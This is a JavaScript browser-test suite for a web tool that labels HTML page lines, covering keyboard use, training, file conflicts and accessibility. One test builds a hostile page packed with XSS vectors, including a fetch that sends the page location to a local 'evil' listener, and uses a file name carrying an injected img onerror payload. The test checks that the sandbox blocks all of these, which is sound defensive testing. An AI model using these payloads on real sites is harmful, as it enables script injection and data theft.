// `dechaff label` in a browser: marking by keyboard, what goes wrong, and pages that mean harm.

import assert from 'node:assert/strict';
import { chmodSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { test } from 'node:test';

import { PHONE, openPage, sideways, violations } from './browser.mjs';
import {
  END,
  FOUR,
  SIGNED,
  START,
  browser,
  directory,
  isShown,
  labels,
  openFiles,
  openLabel,
  press,
  said,
  saysSoon,
  settled,
  startServer,
  toClean,
} from './label-harness.mjs';

test('a page is marked by keyboard, and nothing else in its file changes', async () => {
  const { files, tab, page } = await openFiles({ 'a.html': FOUR });
  await press(page, 'Home', 'Shift+End', 'b');
  assert.equal(await labels(page), '0000');
  await press(page, 'Escape', 'k', 'k', 'x', 'j', 'Space');
  await press(page, 'j', 'c', 'u');
  assert.equal(await labels(page), '0110');
  await press(page, 'u', 'Shift+U');
  assert.equal(await labels(page), '0110');
  assert.match(await page.locator('#page-facts').textContent(), /2 of 4 lines are content.*not saved/);
  await press(page, 's');
  await saysSoon(page, '#said', 'All pages are marked');
  const marked = FOUR.replace('First', `${SIGNED}First`).replace('</b>.', `</b>.${END}`);
  assert.equal(files.read('a.html'), marked);

  await page.reload();
  await page.waitForSelector('.line');
  assert.equal(await labels(page), '0110');
  assert.match(await page.locator('#page-facts').textContent(), /marked\.$/);
  assert.match(await page.locator('#progress-text').textContent(), /^1 of 1 pages marked/);
  await press(page, 'Enter');
  await saysSoon(page, '#said', 'All pages are marked');
  assert.equal(files.read('a.html'), marked);
  assert.deepEqual([tab.errors, tab.console], [[], []]);
});

test('ranges, suggestions and clicks, in the list and in the preview', async () => {
  const { page } = await openFiles({ 'a.html': FOUR });
  const suggested = await labels(page);
  await press(page, 'Home', 'Shift+End');
  assert.equal(await page.locator('.line[aria-selected=true]').count(), 4);
  await press(page, 'c', 'Escape');
  assert.equal(await labels(page), '1111');
  await page.locator('.line').nth(0).click();
  assert.equal(await labels(page), '0111');
  await page.locator('.line').nth(2).click({ modifiers: ['Shift'] });
  assert.equal(await labels(page), '0001');
  const frame = page.frameLocator('#preview');
  await frame.locator('dechaff-line', { hasText: 'First' }).click();
  assert.equal(await labels(page), '0101');
  assert.equal(await frame.locator('.content').allTextContents().then(String), 'First text.,Imprint');
  assert.equal(await frame.locator('.current').textContent(), 'First text.');
  await page.keyboard.press('x');
  assert.equal(await labels(page), '0001', 'keys work while the preview has the focus');
  for (let step = 0; step < 5; step += 1) await press(page, 'u');
  assert.equal(await labels(page), suggested);
  await press(page, 'a');
  assert.match(await said(page), /4 lines accepted/);
  assert.equal(await labels(page), suggested);
});

test('pages come in the chosen order, and the next one follows', async () => {
  const doubtful = '<p>Read more about this and that here.<p>Some words, some more words.'.repeat(20);
  const { files, page } = await openFiles({ 'a.html': '<nav><a href=/>Home</a></nav>', 'b.html': doubtful, 'c/d.html': FOUR });
  await page.waitForFunction(() => !document.querySelector('#progress-text').textContent.includes('not read yet'));
  const listed = (read) => page.$$eval('#pages button', read);
  const names = () => listed((buttons) => buttons.map((button) => button.title));
  const mixed = await names();
  assert.match(await page.locator('#pages h3').textContent(), /in mixed order/);
  await page.selectOption('#order', 'name');
  assert.deepEqual(await names(), ['a.html', 'b.html', 'c/d.html']);
  await page.selectOption('#order', 'uncertain');
  const doubt = await listed((buttons) => buttons.map((button) => Number(button.lastChild.textContent)));
  assert.deepEqual(doubt, doubt.toSorted((one, other) => other - one));
  assert.ok(new Set(doubt).size > 1);
  await page.selectOption('#order', 'mixed');
  assert.deepEqual(await names(), mixed, 'the order by lot is always the same');
  const first = await page.locator('#page-name').textContent();
  await press(page, 'n');
  await page.waitForFunction((first) => document.querySelector('#page-name').textContent !== first, first);
  await settled(page);
  await press(page, 'p');
  await isShown(page, first);
  await press(page, 'Shift+P');
  await page.keyboard.type('c/d');
  await press(page, 'Enter');
  await isShown(page, 'c/d.html');
  await settled(page);
  await press(page, 's');
  await saysSoon(page, '#said', 'c/d.html is saved');
  assert.ok(files.read('c/d.html').includes(START));
  assert.match(await page.locator('#progress-text').textContent(), /^1 of 3 pages marked/);
});

test('training shows held-out metrics and a learning curve', async () => {
  const text = (n) => `<title>${n}</title><ul><li><a href=/>Home</a></ul>${START}<p>The first sentence of page ${n} is long enough.${END}<div>About us</div>`;
  const { page } = await openFiles(Object.fromEntries(Array.from({ length: 6 }, (_, n) => [`${n}.html`, text(n)])));
  await saysSoon(page, '#progress-text', '6 of 6 pages marked');
  // The first button of the dialog that enter presses is the one that trains.
  await page.waitForFunction(() => !document.querySelector('#train-now').disabled);
  await press(page, 't');
  await page.waitForFunction(() => document.activeElement?.id === 'train-now');
  await page.uncheck('#train-base');
  await page.focus('#train-now');
  await press(page, 'Enter');
  await page.waitForSelector('.chart', { timeout: 120_000 });
  const found = page.locator('.finding');
  assert.match(await found.textContent(), /^(Use|Keep|Not decided yet: mark about 10 more).*On the same 6 pages: page F1 [01]\.\d+ by training 1(, [01]\.\d+ by general\.| and general, the same on each page\.).*\d+\.\d % of the lines/);
  assert.match(await page.locator('.warnings').textContent(), /too few/);
  assert.ok((await page.locator('.chart circle').count()) >= 2);
  assert.match(await page.locator('#training-results tbody tr:last-child').textContent(), /^general.*in use$/);
  assert.deepEqual(await violations(page), []);

  const [saved] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Save the model' }).click()]);
  assert.equal(saved.suggestedFilename(), 'my.bin');

  const scores = () => page.$$eval('.line .score', (found) => found.map((score) => score.textContent).join(' '));
  const before = await scores();
  const choose = async (model) => {
    await page.getByRole('button', { name: `suggestions from ${model}` }).click();
    await saysSoon(page, '#suggest-said', `come from ${model}.`);
    await page.waitForFunction(() => !document.querySelector('.busy'));
  };
  await choose('training 1');
  assert.notEqual(await scores(), before);
  const back = page.getByRole('button', { name: 'suggestions from general' });
  assert.match(await back.textContent(), /^Use/, 'there is a way back');
  await page.check('#train-base');
  await page.click('#train-now');
  await page.waitForFunction(() => document.querySelector('#training-results tbody').textContent.includes('training 2'), null, { timeout: 120_000 });
  assert.match(await page.locator('#training-results tbody tr:last-child').textContent(), /^general/);
  assert.match(await found.textContent(), /^Keep general: the 6 pages do not improve it/);
  await choose('general');
  assert.equal(await scores(), before);
  assert.deepEqual(await violations(page), []);
});

test('of two tabs, the second is told that the file has changed', async () => {
  const files = directory({ 'a.html': FOUR });
  const { address } = await startServer(files.dir);
  const [one, two] = [await openLabel(address), await openLabel(address)];
  await press(one.page, 'Home', 'Shift+End', 'b', 's');
  await saysSoon(one.page, '#said', 'All pages are marked');
  const first = files.read('a.html');
  await press(two.page, 'Home', 'Shift+End', 'c', 's');
  await saysSoon(two.page, '#notice-text', 'changed on disk');
  assert.equal(files.read('a.html'), first);
  await two.page.click('#notice-action');
  await saysSoon(two.page, '#notice-text', 'unsaved labels were restored');
  assert.equal(await labels(two.page), '1111');
  await press(two.page, 'u');
  assert.equal(await labels(two.page), '0000');
  await press(two.page, 'Shift+U', 's');
  await saysSoon(two.page, '#said', 'All pages are marked');
  assert.equal(files.read('a.html'), FOUR.replace('Home', `${SIGNED}Home`).replace('Imprint', `Imprint${END}`));
});

test('a page that was saved without content is reported, and opened again', async () => {
  const text = '<h1>The title of the page</h1><p>The first sentence of the page is long enough, and it says something.</p>'.repeat(3);
  const html = `<nav><a href=/>Home</a></nav>${text}`;
  const { files, page } = await openFiles({ 'a.html': html, 'b.html': html });
  const first = await page.locator('#page-name').textContent();
  assert.ok((await labels(page)).includes('1'), 'the model suggests some');
  await press(page, 'Home', 'Shift+End', 'b', 's');
  await saysSoon(page, '#notice-text', `${first} is saved without content: it had`);
  assert.notEqual(await page.locator('#page-name').textContent(), first);
  assert.deepEqual(await violations(page), []);
  await page.click('#notice-action');
  await isShown(page, first);
  await settled(page);
  assert.equal(await page.locator('#notice').isVisible(), false);
  await press(page, 'Home', 'Shift+End', 'c', 's');
  await saysSoon(page, '#said', `${first} is saved`);
  assert.ok(files.read(first).includes(`${START}Home`));
});

test('a page is unmarked, and its labels stay until they are undone', async () => {
  const { files, page } = await openFiles({ 'a.html': FOUR });
  const suggested = await labels(page);
  await press(page, 'm');
  assert.match(await said(page), /not marked/);
  await press(page, 'Home', 'Shift+End', 'c', 's');
  await saysSoon(page, '#said', 'All pages are marked');
  const marked = files.read('a.html');
  await press(page, 'm');
  await saysSoon(page, '#said', 'is no longer marked');
  assert.equal(files.read('a.html'), FOUR);
  assert.match(await page.locator('#progress-text').textContent(), /^0 of 1 pages marked/);
  assert.equal(await labels(page), '1111');
  await press(page, 's');
  await saysSoon(page, '#said', 'All pages are marked');
  assert.equal(files.read('a.html'), marked);
  await press(page, 'm');
  await saysSoon(page, '#said', 'is no longer marked');
  await press(page, 'u');
  assert.equal(await labels(page), suggested);
  assert.match(await page.locator('#page-facts').textContent(), /suggested\.$/);
});

test('labels go to the lines that are still there when the text of a page changes', async () => {
  const lines = Array.from({ length: 12 }, (_, n) => `<p>This is line ${n}.</p>`);
  const { files, page } = await openFiles({ 'a.html': lines.join('\n') });
  await press(page, 'Home', 'Shift+End', 'b', 'Escape');
  for (const line of [2, 5, 9]) {
    await press(page, 'Home');
    for (let step = 0; step < line; step += 1) await press(page, 'j');
    await press(page, 'c');
  }
  const changed = ['<p>New at the top.</p>', ...lines.slice(0, 5), '<p>Another one</p>', ...lines.slice(6)];
  writeFileSync(files.path('a.html'), changed.join('\n'));
  await press(page, 's');
  await saysSoon(page, '#notice-text', 'changed on disk');
  await page.click('#notice-action');
  await saysSoon(page, '#notice-text', 'has changed since you labelled it');
  const notice = await page.locator('#notice-text').textContent();
  assert.match(notice, /11 lines that you labelled were found again and keep their labels\. 1 line could not be found: “This is line 5\.” \(content\)/);
  // The two new lines are as suggested; every other one is as it was set.
  const set = (await labels(page)).split('').filter((_, line) => line !== 0 && line !== 6).join('');
  assert.equal(set, '00100000100');

  // Nothing is dropped until it is said so.
  await page.reload();
  await page.waitForSelector('.line');
  await saysSoon(page, '#notice-text', '1 line could not be found');
  await page.click('#notice-action');
  await page.reload();
  await page.waitForSelector('.line');
  await saysSoon(page, '#notice-text', 'unsaved labels were restored');
  await press(page, 's');
  await saysSoon(page, '#said', 'All pages are marked');
  assert.ok(files.read('a.html').includes(`${START}This is line 9.${END}`));
});

test('lines are aligned as a table of common subsequences has it', async () => {
  const { page } = await openFiles({ 'a.html': FOUR });
  const wrong = await page.evaluate(async () => {
    const { align } = await import('./align.js');
    let state = 7;
    const random = (below) => {
      state = (state * 1103515245 + 12345) % 2147483648;
      return Math.floor((state / 2147483648) * below);
    };
    const wrong = [];
    for (let round = 0; round < 400; round += 1) {
      const sequence = () => Array.from({ length: random(12) }, () => String(random([2, 5, 40][round % 3])));
      const [before, now] = [sequence(), sequence()];
      const places = [...align(before, now)];
      const found = places.filter((place) => place >= 0);
      const sound =
        found.every((place, nth) => nth === 0 || place > found[nth - 1]) &&
        places.every((place, line) => place < 0 || now[place] === before[line]);
      // Whatever stands in both once and in the same order must be found.
      const once = (line) => before.filter((one) => one === line).length === 1 && now.filter((one) => one === line).length === 1;
      const [own, others] = [before.filter(once), now.filter(once)];
      const complete = own.join() !== others.join() || own.every((line) => places[before.indexOf(line)] >= 0);
      if (!sound || !complete || (before.join() === now.join() && found.length < before.length)) wrong.push([before, now, places]);
    }
    return wrong;
  });
  assert.deepEqual(wrong, []);
});

test('comments of the site are no markers, and come back when the page is unmarked', async () => {
  const own = FOUR.replace('<p>Second', '<!-- /content --><p>Second');
  const pages = Object.fromEntries(Array.from({ length: 11 }, (_, n) => [`b${n}.html`, FOUR.replace('First', `Page ${n}`)]));
  const pair = FOUR.replace('<p>First', '<!-- Content --><p>First').replace('</p>\n<p>Second', '</p><!-- /Content -->\n<p>Second');
  const { files, page } = await openFiles({ ...pages, 'own.html': own, 'pair.html': pair });
  await page.waitForFunction(() => document.querySelector('#progress-text').textContent === '0 of 13 pages marked');
  await press(page, 'Shift+P');
  await page.keyboard.type('pair');
  await press(page, 'Enter');
  await isShown(page, 'pair.html');
  await saysSoon(page, '#notice-text', 'comments that look like markers');
  assert.equal(await labels(page), '0100', 'as they say');
  await settled(page);
  await press(page, 's');
  await saysSoon(page, '#said', 'pair.html is saved');
  assert.ok(files.read('pair.html').includes(`<!--kept by dechaff: Content --><p>${SIGNED}First text.${END}`));
});

test('a server that is killed takes no labels with it', async () => {
  const { files, server, page } = await openFiles({ 'a.html': FOUR });
  await press(page, 'Home', 'Shift+End', 'c', 'Escape', 'Home', 'b');
  await server.kill();
  await press(page, 's');
  await saysSoon(page, '#notice-text', 'cannot be reached');
  await press(page, 'End', 'b');
  const meant = await labels(page);
  assert.equal(meant, '0110');
  const again = await startServer(files.dir, server.port);
  await saysSoon(page, '#notice-text', 'has a new address');
  assert.equal(files.read('a.html'), FOUR);
  await page.goto(again.address);
  await page.waitForSelector('.line');
  await saysSoon(page, '#notice-text', 'unsaved labels were restored');
  assert.equal(await labels(page), meant);
  await press(page, 's');
  await saysSoon(page, '#said', 'All pages are marked');
  assert.ok(files.read('a.html').includes(`${START}First`));
});

test('a read-only file stays as it is, and its labels stay on the page', async () => {
  const { files, page } = await openFiles({ 'a.html': FOUR });
  chmodSync(files.path('a.html'), 0o444);
  await press(page, 'Home', 'Shift+End', 'c', 's');
  await saysSoon(page, '#notice-text', 'read-only');
  assert.equal(await labels(page), '1111');
  assert.equal(files.read('a.html'), FOUR);
  chmodSync(files.path('a.html'), 0o644);
  await press(page, 's');
  await saysSoon(page, '#said', 'All pages are marked');
  assert.ok(files.read('a.html').includes(START));
});

test('a hostile page can do nothing', async () => {
  const asked = [];
  const listener = createServer((request, response) => {
    asked.push(request.url);
    response.end('alert(1)');
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => listener.once('listening', resolve));
  toClean.push(() => listener.close());
  const evil = `http://127.0.0.1:${listener.address().port}/`;
  const act = `parent.document.title='taken';top.location='${evil}t';fetch('${evil}'+parent.location);alert(1)`;
  const hostile = `<!doctype html><html onclick="${act}"><head><base href="${evil}" target=_top>
    <meta http-equiv=refresh content="0;url=${evil}r"><link rel=stylesheet href="${evil}c"><link rel=prefetch href="${evil}p">
    <meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">
    <style>@import "${evil}i"; @font-face{font-family:x;src:url(${evil}f)} body{font-family:x;background:url(${evil}b)}</style>
    <script>${act}</script><script src="${evil}s"></script></head><body onload="${act}">
    <img src=x onerror="${act}"><img src="${evil}g" srcset="${evil}h 2x"><svg onload="${act}"><script>${act}</script></svg>
    <iframe src="javascript:${act}"></iframe><iframe srcdoc="<script>${act}</script>"></iframe><object data="${evil}o"></object>
    <form action="${evil}" name=getElementById><input name=querySelectorAll autofocus onfocus="${act}"><button id=send>Send it</button></form>
    <p><a id=out href="${evil}a" ping="${evil}n" target=_top>A link out of here</a></p><p><a id=run href="javascript:${act}">Another one</a></p>
    <p>a &lt;script>${'alert(1)'}&lt;/script> <<!-- -->script>alert(2)</script></p>
    <noscript><p title="</noscript><img src=x onerror=alert(3)>">In no script</noscript>
    <dialog open>\u202eOver it</dialog><p onclick="${act}" style="position:fixed;inset:0;z-index:9">All over</p></body></html>`;
  const { files, address, tab, page } = await openFiles({ '"><img src=x onerror=alert(4)>.html': hostile, 'z.html': FOUR });
  if (!(await labels(page)).length || (await page.locator('#page-name').textContent()) === 'z.html') {
    await press(page, 'n');
    await page.waitForFunction(() => document.querySelector('#page-name').textContent !== 'z.html');
    await settled(page);
  }
  for (const style of ['own', 'plain']) {
    const frame = page.frameLocator('#preview');
    for (const part of await frame.locator('dechaff-line').all()) await part.click({ force: true, noWaitAfter: true });
    await frame.locator('#out, #run, #send').first().click({ force: true });
    await frame.locator('body').press('Tab');
    await page.waitForTimeout(300);
    const inside = page.frames().find((frame) => frame !== page.mainFrame());
    assert.match(inside.url(), new RegExp(`/preview/[0-9a-f]{32}/${style}$`));
    assert.equal(await inside.evaluate(() => 1).catch(() => 'no scripts'), 1, 'the test reads the frame from outside');
    const html = await page.evaluate(() => document.querySelector('#preview').contentDocument.documentElement.outerHTML);
    assert.doesNotMatch(html, /<script|<form|<iframe|<base|http-equiv|onclick|onerror|href=|src=/i);
    assert.ok(!html.includes(address.split('/')[3]), 'the token is not in the preview');
    if (style === 'own') {
      await page.locator('#own-style').click();
      await page.waitForFunction(() => document.querySelector('#preview').contentDocument.URL.endsWith('/plain'));
      await settled(page);
    }
  }
  assert.equal(page.url(), address);
  assert.match(await page.title(), /dechaff label$/);
  assert.deepEqual([asked, tab.dialogs, tab.errors], [[], [], []]);
  assert.equal(browser.contexts().at(-1).pages().length, 1);

  // From a page of another origin nothing can be read, written or framed.
  const other = await openPage(browser, evil);
  toClean.push(other.close);
  const tried = await other.page.evaluate(async (address) => {
    const outcome = (promise) => promise.then(() => 'done', () => 'refused');
    const body = '{"hash":"","labels":""}';
    const json = { 'Content-Type': 'application/json' };
    return [
      await outcome(fetch(`${address}api/pages`)),
      await outcome(fetch(`${address}api/page/0`, { method: 'POST', body, headers: json })),
      await outcome(fetch(`${address}api/page/0`, { method: 'POST', body, mode: 'no-cors' })),
    ];
  }, address);
  assert.deepEqual(tried, ['refused', 'refused', 'refused']);
  assert.ok(!files.read('z.html').includes(START));
});

test('a page of 50,000 lines stays usable', async () => {
  const rows = Array.from({ length: 50_000 }, (_, n) => `<p>Line ${n} of a very long page</p>`).join('\n');
  const { files, page } = await openFiles({ 'a.html': rows }, { tab: { timeout: 120_000 } });
  await page.waitForFunction(() => document.querySelectorAll('.line').length === 50_000);
  await press(page, 'End', 'c', 'Home', 'j', 'j', 'x');
  assert.equal((await labels(page)).length, 50_000);
  assert.equal(await page.locator('.line.current').textContent().then((text) => text.includes('Line 2 of')), true);
  await press(page, 's');
  await saysSoon(page, '#said', 'All pages are marked');
  assert.ok(files.read('a.html').includes(`Line 49999 of a very long page${END}`));
});

test('an address without the token says what to do', async () => {
  const files = directory({ 'a.html': FOUR });
  const { address } = await startServer(files.dir);
  const tab = await openPage(browser, new URL('/', address).href);
  toClean.push(tab.close);
  assert.match(await tab.page.textContent('body'), /Open the address that the running command printed/);
});

test('axe finds nothing wrong, in light and dark, on a wide and a narrow screen', async () => {
  const files = directory({ 'a.html': FOUR, 'b/c.html': FOUR });
  const { address } = await startServer(files.dir);
  for (const options of [{}, { colorScheme: 'dark' }, { viewport: PHONE }, { viewport: PHONE, colorScheme: 'dark' }]) {
    const { page } = await openLabel(address, options);
    await press(page, 'Home', 'c', 'Shift+j');
    assert.deepEqual(await violations(page), [], JSON.stringify(options));
    assert.equal(await sideways(page), 0, JSON.stringify(options));
    await press(page, '?');
    assert.deepEqual(await violations(page), [], JSON.stringify(options));
    await press(page, 'Escape');
    if (options.viewport) {
      for (const pane of ['pages', 'preview']) {
        await page.click(`[data-show=${pane}]`);
        assert.deepEqual(await violations(page), [], pane);
      }
    }
  }
});
